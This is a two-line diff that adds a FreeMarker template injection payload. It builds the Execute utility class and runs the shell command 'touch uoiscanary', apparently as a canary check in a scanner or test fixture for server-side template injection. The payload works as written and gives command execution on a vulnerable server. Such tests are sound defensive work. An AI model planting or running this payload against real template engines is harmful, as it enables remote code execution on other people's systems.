@@ -1,0 +1,2 @@
+<#assign x = "freemarker.template.utility.Execute"?new()>
+[=x("touch uoiscanary")]
